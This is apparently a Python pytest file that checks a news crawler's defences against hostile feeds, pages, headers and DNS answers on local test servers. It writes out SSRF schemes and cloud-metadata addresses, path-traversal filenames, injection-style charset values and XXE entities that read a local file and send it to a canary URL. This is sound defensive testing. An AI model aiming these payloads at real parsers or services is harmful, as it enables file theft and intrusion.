"""Names, documents, headers and surroundings made to lead a crawler astray."""

import asyncio
import contextlib
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from canaries import NETWORK, OURS, Canary, feed, moved, rss, sitemap, stayed_outside
from crawling import House
from papers import ON_BEAT, Khazri, article_page, plain_environment, sources_file
from rude import RudeServer, reply

pytestmark = [pytest.mark.thorough, pytest.mark.skipif(sys.platform != "linux", reason="only Linux answers on all of 127.0.0.0/8")]


@pytest.fixture
def canary() -> Iterator[Canary]:
    """A canary."""
    made = Canary()
    yield made
    made.close()


@pytest.fixture
def press() -> Iterator[RudeServer]:
    """A server on every address that is allowed, and on the canary's not at all: its port is another."""
    made = RudeServer("0.0.0.0")
    yield made
    made.close()


def test_a_name_that_changes_its_meaning_is_reached_where_it_was_judged_and_nowhere_else(
    house: House, press: RudeServer, tmp_path: Path
) -> None:
    """A thousand tries. The press listens inside as well, so that a connection there would be answered, and seen."""
    press.answers["/"] = reply(b"here", Connection="close")
    there, here = "127.0.0.64", "127.0.0.1"
    answers = [[there], [here], [there, here], [here, there], ["::1", there], [there, "10.0.0.1"], [there], ["169.254.169.254"]]
    hosts = {f"name-{number}.example": answers for number in range(4)}
    tries = [f"http://{name}:{press.port}/" for name in hosts for _ in range(250)]
    asked = house.ask(tmp_path, *tries, hosts=hosts, **OURS)
    assert {each.address for each in press.log} == {there}
    assert set(asked.reached) == {f"{there}:{press.port}"}
    assert len(press.log) == sum(said == "None" for said in asked.said.splitlines()) == 4 * (2 * 31 + 1)
    assert asked.said.count("private address") == 1000 - len(press.log), "a name with one address inside is refused whole"


SCHEMES = ["file:///etc/hostname", "file://localhost/etc/hostname", "data:text/html,hello", "ftp://127.0.0.1/x", "s3://bucket/key"]
SCHEMES += ["gopher://127.0.0.1:8080/x", "javascript:alert(1)", "jar:http://127.0.0.1!/x", "dict://127.0.0.1/x", "view-source:http://x/"]


def test_nothing_but_the_web_is_asked_for_wherever_it_is_named(house: House, canary: Canary, press: RudeServer, tmp_path: Path) -> None:
    from news.errors import TableError
    from news.sources import read_sources

    home = f"http://127.0.0.64:{press.port}"
    items = "".join(f"<item><title>{n}</title><link>{url}</link></item>" for n, url in enumerate(SCHEMES))
    items += "".join(f"<item><title>{n}</title><link>{home}/moved-{n}</link></item>" for n in range(len(SCHEMES)))
    press.answers |= {f"/moved-{number}": moved(url, 302) for number, url in enumerate(SCHEMES)}
    press.answers |= {f"/feed-{number}": moved(url, 301) for number, url in enumerate(SCHEMES)}
    press.answers |= {
        "/rss": rss(items),
        "/map": reply(sitemap("sitemapindex", "sitemap", SCHEMES), kind="application/xml"),
        "/list": reply("".join(f'<p><a href="{url}">A story</a></p>' for url in SCHEMES).encode()),
    }
    feeds = [("rss", f"{home}/rss"), ("sitemap", f"{home}/map"), ("listing", f'{home}/list"\npattern = "*"')]
    feeds += [("rss", f"{home}/feed-{number}") for number in range(len(SCHEMES))]
    done = house.crawl(tmp_path, sources_file(tmp_path, *feeds), **OURS)
    assert stayed_outside(done, canary)
    assert done.stored == (0,)
    assert {f"/moved-{number}" for number in range(len(SCHEMES))} <= set(press.paths())
    assert _urls(tmp_path) <= {f"{home}/moved-{number}" for number in range(len(SCHEMES))}
    for url in SCHEMES:
        with pytest.raises(TableError):
            read_sources(sources_file(tmp_path, ("rss", url), name="bad.toml"))


def test_no_server_hears_of_another_and_none_is_remembered(house: House, press: RudeServer, tmp_path: Path) -> None:
    """Headers that ask for a Referer, set cookies, or name things of ours are nothing but text."""
    home, other = f"http://127.0.0.64:{press.port}", f"http://127.0.0.65:{press.port}"
    hostile = {
        "Referrer_Policy": "unsafe-url",
        "Set_Cookie": "session=1; Domain=0.0.1; Path=/",
        "Content_Disposition": 'attachment; filename="../../../../tmp/khazri-was-here.html"',
        "WWW_Authenticate": 'Basic realm="x"',
        "Link": f"<{other}/linked>; rel=preload",
        "Refresh": "0; url=/refreshed",
    }
    story = article_page("Baku refuses to supply shells", *ON_BEAT).body
    items = "".join(f"<item><title>{n}</title><link>{other}/{n}</link></item>" for n in range(len(CONTENT_TYPES)))
    press.answers |= {
        f"/{n}": reply(story.replace(b"Baku refuses", b"%d: Baku refuses" % n), kind=kind) for n, kind in enumerate(CONTENT_TYPES)
    }
    items += f"<item><title>m</title><link>{home}/moved</link></item>"
    press.answers |= {
        "/robots.txt": reply(b"", kind="text/plain", **hostile),
        "/rss?key=SECRET": reply(feed(items), kind="application/rss+xml", **hostile),
        "/moved": reply(b"", 302, Location=f"{other}/there", **hostile),
        "/there": reply(
            b"", 302, Location=f"{other}/5", **(hostile | {"Referrer_Policy": "scrapy.spidermiddlewares.referer.UnsafeUrlPolicy"})
        ),
    }
    done = house.crawl(tmp_path, sources_file(tmp_path, ("rss", f"{home}/rss?key=SECRET")), **OURS)
    assert {f"/{n}" for n in range(len(CONTENT_TYPES))} | {"/moved", "/there"} <= set(press.paths())
    assert done.stored[0] >= 1
    for asked in press.log:
        assert not {"referer", "cookie", "authorization", "proxy-authorization"} & {name.lower() for name in asked.headers}
        assert "SECRET" not in str(asked.headers)
    assert not {"/linked", "/refreshed"} & set(press.paths())
    assert not Path("/tmp/khazri-was-here.html").exists()


CONTENT_TYPES = ["text/html", "text/html; charset=../../etc/hostname", "text/html; charset=unicode_escape", "text/html; charset=zlib_codec"]
CONTENT_TYPES += ["os.system", "text/html; charset=" + "x" * 5000, "text/html; charset=utf-7", 'text/html; charset="', "%s%n{0.__class__}"]


def test_a_password_in_an_address_is_neither_used_nor_shown(house: House, khazri: Khazri, press: RudeServer, tmp_path: Path) -> None:
    secret = "hunter2-and-more"
    ran = khazri("sources", "list", "--sources", str(sources_file(tmp_path, ("rss", f"http://me:{secret}@127.0.0.64:{press.port}/rss"))))
    assert ran.code != 0
    assert "without name and password" in ran.err
    assert secret not in ran.err + ran.out
    home = f"http://127.0.0.64:{press.port}"
    items = f"<item><title>A</title><link>http://me:{secret}@127.0.0.65:{press.port}/a</link></item>"
    items += f"<item><title>B</title><link>{home}/b</link></item>"
    press.answers |= {"/rss": rss(items), "/b": moved(f"http://me:{secret}@127.0.0.65:{press.port}/c", 302)}
    done = house.crawl(tmp_path, sources_file(tmp_path, ("rss", f"{home}/rss")), **OURS)
    assert set(press.paths()) == {"/rss", "/b"}
    assert secret not in done.said
    assert secret.encode() not in (tmp_path / "khazri.db").read_bytes()


def test_no_document_makes_a_parser_read_a_file_or_ask_for_another(house: House, canary: Canary, press: RudeServer, tmp_path: Path) -> None:
    from news.errors import KhazriError
    from news.opml import read_opml

    home = f"http://127.0.0.64:{press.port}"
    (tmp_path / "sentinel").write_text("SENTINEL", encoding="utf-8")
    bait = f"http://127.0.0.1:{canary.port}"
    tricks = [
        f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{tmp_path}/sentinel">]>',
        f'<!DOCTYPE d [<!ENTITY x SYSTEM "{bait}/x">]>',
        f'<!DOCTYPE d SYSTEM "{bait}/d.dtd">',
        f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{bait}/p.dtd"> %p;]>',
        f'<!DOCTYPE d [<!ENTITY % f SYSTEM "file://{tmp_path}/sentinel"><!ENTITY % e "<!ENTITY x SYSTEM \'{bait}/%f;\'>"> %e;]>',
        f'<?xml-stylesheet href="{bait}/style.xsl" type="text/xsl"?>',
    ]
    xinclude = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file://{tmp_path}/sentinel" parse="text"/>'
    feeds = []
    for number, trick in enumerate(tricks):
        use = "&x;" if "ENTITY x" in trick else xinclude
        item = f"<item><title>A {use}</title><link>{home}/page-{number}?{use if use == '&x;' else ''}</link><description>{use}</description></item>"
        rows = f"<url><loc>{home}/mapped-{number}?{use if use == '&x;' else ''}</loc>{xinclude}</url>"
        page = article_page(f"Number {number}: Baku refuses {use}", *ON_BEAT, use).body
        press.answers |= {
            f"/rss-{number}": reply(trick.encode() + feed(item), kind="text/xml"),
            f"/map-{number}": reply(
                f'{trick}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{rows}</urlset>'.encode(), kind="text/xml"
            ),
            f"/list-{number}": reply(f'{trick}<html><p><a href="{home}/page-{number}">A story {use}</a></p></html>'.encode()),
            f"/page-{number}": reply(trick.encode() + page, kind="application/xhtml+xml"),
            f"/page-{number}?": reply(trick.encode() + page, kind="text/xml"),
        }
        feeds += [
            ("rss", f"{home}/rss-{number}"),
            ("sitemap", f"{home}/map-{number}"),
            ("listing", f'{home}/list-{number}"\npattern = "*"'),
        ]
        with contextlib.suppress(KhazriError):
            outlines = read_opml(
                f'{trick}<opml><body><outline text="{use if use == "&x;" else ""}" xmlUrl="{home}/"/>{xinclude}</body></opml>'.encode(),
                "mine.opml",
            )
            assert "SENTINEL" not in str(outlines)
    done = house.crawl(tmp_path, sources_file(tmp_path, *feeds), **OURS)
    assert stayed_outside(done, canary)
    assert {f"/list-{number}" for number in range(len(tricks))} <= set(press.paths())
    assert not [path for path in press.paths() if "SENTINEL" in path]
    assert b"SENTINEL" not in (tmp_path / "khazri.db").read_bytes()


def test_a_crawl_uses_no_proxy_of_the_environment_and_listens_to_nobody(canary: Canary, press: RudeServer, tmp_path: Path) -> None:
    home = f"http://127.0.0.64:{press.port}"
    listening: list[set[int]] = []

    async def look_around(writer: asyncio.StreamWriter) -> None:
        listening.append(_listening(started[0].pid))
        writer.write(reply(b'<rss version="2.0"><channel><title>P</title></channel></rss>', kind="text/xml"))

    press.answers["/rss"] = look_around
    proxy = f"http://127.0.0.1:{canary.port}"
    proxies = dict.fromkeys(("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"), proxy)
    environment = plain_environment(KHAZRI_ALLOW_NETWORKS=NETWORK, **proxies)
    command = [sys.executable, "-m", "desk.cli", "crawl", "--sources", str(sources_file(tmp_path, ("rss", f"{home}/rss")))]
    started = [subprocess.Popen(command, cwd=tmp_path, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)]
    assert started[0].wait(timeout=120) == 0
    assert canary.visits == []
    assert "/rss" in press.paths()
    assert listening == [set()]
    assert _listening(os.getpid()) >= {press.port, canary.port}, "what listens is found"


def _listening(root: int) -> set[int]:
    """Return the TCP ports on which a process and those it started listen."""
    parents = {}
    for each in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            parents[int(each.parent.name)] = int(each.read_text().rpartition(")")[2].split()[1])
    family = {root}
    while grown := {child for child, parent in parents.items() if parent in family} - family:
        family |= grown
    held = set()
    for process in family:
        with contextlib.suppress(OSError):
            for each in Path(f"/proc/{process}/fd").iterdir():
                with contextlib.suppress(OSError):
                    held.add(str(each.readlink()))
    rows = [line.split() for name in ("tcp", "tcp6") for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]]
    return {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A" and f"socket:[{row[9]}]" in held}


def _urls(folder: Path) -> set[str]:
    with sqlite3.connect(folder / "khazri.db") as connection:
        urls = {url for (url,) in connection.execute("SELECT url FROM urls")}
    connection.close()
    return urls
